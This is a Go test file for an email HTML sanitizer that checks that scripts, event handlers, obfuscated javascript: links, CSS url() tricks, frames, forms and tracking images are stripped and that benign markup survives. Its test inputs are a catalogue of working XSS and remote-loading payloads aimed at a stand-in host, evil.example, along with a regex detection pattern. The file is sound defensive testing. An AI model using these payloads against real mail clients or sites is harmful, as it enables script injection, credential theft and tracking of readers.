package mailpage_test

import (
	"regexp"
	"strings"
	"testing"

	"latchkey/internal/mailpage"
)

func own(id string) string {
	if id == "logo@novak.example" {
		return "/pictures/1"
	}
	return ""
}

// Whatever loads, runs, posts or takes a name of ours is gone; what is said is there.
func TestRule48NothingOfAPageLoadsOrRuns(t *testing.T) {
	t.Parallel()
	const evil = "evil.example"
	for name, page := range map[string]string{
		"a script":               `<script src="https://evil.example/x.js">alert(1)</script>`,
		"a handler":              `<p onclick="alert(1)" onmouseover=alert(1)>Hello</p><img src=x onerror=alert(1)>`,
		"an address that runs":   `<a href="javascript:alert(1)">a</a><a href="java&#115;cript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">a</a><a href="vbscript:x">b</a>`,
		"a style sheet":          `<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/a.png)}</style><link rel=stylesheet href="https://evil.example/x.css">`,
		"url in a style":         `<div style="background:url(https://evil.example/a.png)">a</div><div style="background-image:url('https://evil.example/b')">b</div><p style="list-style:url(//evil.example)">c</p>`,
		"an escaped url":         `<div style="background:\75rl(https://evil.example/a)">a</div><div style="background:u/**/rl(https://evil.example/a)">b</div><div style="background:&#117;rl(https://evil.example/a)">c</div>`,
		"an image set":           `<div style="background:image-set('https://evil.example/a' 1x)">a</div><div style="background:-webkit-image-set(url(https://evil.example))">b</div><div style="cursor:url(https://evil.example/c),auto">c</div>`,
		"a near url":             `<div style="background:url(a.png)">a</div><div style="background:URL( a )">b</div><div style="color:expression(alert)">c</div>`,
		"a font":                 `<div style="font-family:x;src:url(https://evil.example/f)">a</div>`,
		"a background":           `<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">a</td></tr></table><body background="https://evil.example/c.png">`,
		"several sources":        `<img srcset="https://evil.example/a 2x" src="https://evil.example/b"><picture><source srcset="https://evil.example/c"></picture>`,
		"a picture of elsewhere": `<img src="https://evil.example/pixel.gif"><img src="//evil.example/p.gif"><img src="http:evil.example/p.gif"><img src="https:\\evil.example/p.gif"><img src="/logout"><img src="x.png">`,
		"SVG":                    `<svg><image href="https://evil.example/a"/><script>alert(1)</script></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
		"MathML":                 `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
		"a frame":                `<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example"><frameset><frame src="https://evil.example"></frameset>`,
		"a form":                 `<form action="https://evil.example"><input name=password><button formaction="https://evil.example">Send</button></form>`,
		"another base":           `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
		"sound":                  `<audio src="https://evil.example/a" autoplay></audio><video poster="https://evil.example/b"></video><bgsound src="https://evil.example/c">`,
		"a comment of an office": `<!--[if mso]><v:fill src="https://evil.example/a"/><![endif]--><v:rect><v:imagedata src="https://evil.example/b"/></v:rect>`,
		"a half tag":             `<img src="https://evil.example/a" <p title="<img src=>">a</p><noscript><img src="https://evil.example/c"></noscript>`,
	} {
		clean := mailpage.Clean(page, mailpage.Pictures{Own: own}).HTML
		if loads.MatchString(clean) || strings.Contains(clean, evil) {
			t.Errorf("%s: %s", name, clean)
		}
	}
}

// loads is what a page would need in order to load, to run or to post something.
var loads = regexp.MustCompile(`(?i)url\(|expression|image-set|@import|javascript:|vbscript:|data:|<(?:script|style|link|svg|math|iframe|object|embed|form|input|button|base|meta|audio|video|source|template)|\son\w+=|srcset|background="|\ssrc="[^"]|\sid=|\sclass=|\sname=`)

func TestAPageKeepsItsTextItsLinksAndItsOwnPictures(t *testing.T) {
	t.Parallel()
	for name, page := range map[string]struct{ html, want string }{
		"a style": {
			`<p style="color: #c00; font-family: 'Gill Sans', sans-serif; position: fixed; background: rgb(1, 2, 3)">Hello</p>`,
			`<p style="color: #c00; font-family: &#39;Gill Sans&#39;, sans-serif; background: rgb(1, 2, 3)">Hello</p>`,
		},
		"a table": {`<table width="100%" cellpadding=0><tr><td bgcolor="#fff" align=center>a</td></tr></table>`, `<table width="100%" cellpadding="0"><tr><td bgcolor="#fff" align="center">a</td></tr></table>`},
		"a link":  {`<a href="https://novak.example/?a=1&amp;b=2" class=x id=y name=z>a</a>`, `<a href="https://novak.example/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">a</a>`},
		"mailto":  {`<a href="mailto:jana@novak.example">a</a>`, `<a href="mailto:jana@novak.example" rel="nofollow noreferrer">a</a>`},
		"within":  {`<img src="cid:logo@novak.example" alt="Logo" width=20><img src="cid:none" alt="no">`, `<img src="/pictures/1" alt="Logo" width="20"><img src="" alt="no">`},
	} {
		if got := mailpage.Clean(page.html, mailpage.Pictures{Own: own}); got.HTML != page.want || got.Blocked > 0 {
			t.Errorf("%s:\n got %s\nwant %s", name, got.HTML, page.want)
		}
	}
}

// Pictures of other servers are left out and counted until somebody asks for them.
func TestPicturesOfOtherServersWaitUntilTheyAreAskedFor(t *testing.T) {
	t.Parallel()
	const page = `<img src="https://novak.example/a.png"><img src="http://novak.example/b.png"><img src="cid:logo@novak.example"><img src="data:image/png;base64,AA==">`
	blocked := mailpage.Clean(page, mailpage.Pictures{Own: own})
	if blocked.Blocked != 2 || strings.Contains(blocked.HTML, "novak") || !strings.Contains(blocked.HTML, "/pictures/1") {
		t.Errorf("%+v", blocked)
	}
	asked := mailpage.Clean(page, mailpage.Pictures{Own: own, Remote: true})
	if asked.Blocked != 0 || !strings.Contains(asked.HTML, `src="https://novak.example/a.png"`) || !strings.Contains(asked.HTML, `src="http://novak.example/b.png"`) ||
		strings.Contains(asked.HTML, "data:") {
		t.Errorf("%+v", asked)
	}
}

// A page as large as is kept comes back, however it is made: what is too long to be
// looked at is left out.
func TestALargePageIsMadeHarmlessToo(t *testing.T) {
	t.Parallel()
	const large = 1_000_000
	for _, piece := range []string{"<div>", "<div style='color:red'>a", "<a href='https://novak.example'>", "<!--", "<", "&", "style=\"", "<img src=cid:a>"} {
		if clean := mailpage.Clean(strings.Repeat(piece, large/len(piece)), mailpage.Pictures{Own: own}); len(clean.HTML) > 10*large {
			t.Errorf("%s: %d bytes", piece, len(clean.HTML))
		}
	}
	long := `<p style="` + strings.Repeat("color:red;", large/10) + `" align="center">a<img alt="b" src="data:image/png;base64,` + strings.Repeat("A", large) + `"></p>`
	if got := mailpage.Short(long); got != `<p align="center">a<img alt="b"></p>` {
		t.Errorf("%.300s", got)
	}
	if got := mailpage.Clean(long, mailpage.Pictures{Own: own}).HTML; got != `<p align="center">a<img alt="b"></p>` {
		t.Errorf("%.300s", got)
	}
}

// No style of an element has a brace: many took seconds to read.
func TestAStyleWithABraceIsLeftOut(t *testing.T) {
	t.Parallel()
	for _, brace := range []string{"{", "&lbrace;", "&#123;"} {
		page := mailpage.Short(`<p style="color: red; a` + brace + `">One</p><p style="color: red">Two &amp; three</p>`)
		if strings.Count(page, "style=") != 1 || !strings.Contains(page, "One") || !strings.Contains(page, "Two &amp; three") {
			t.Errorf("%s: %s", brace, page)
		}
	}
}
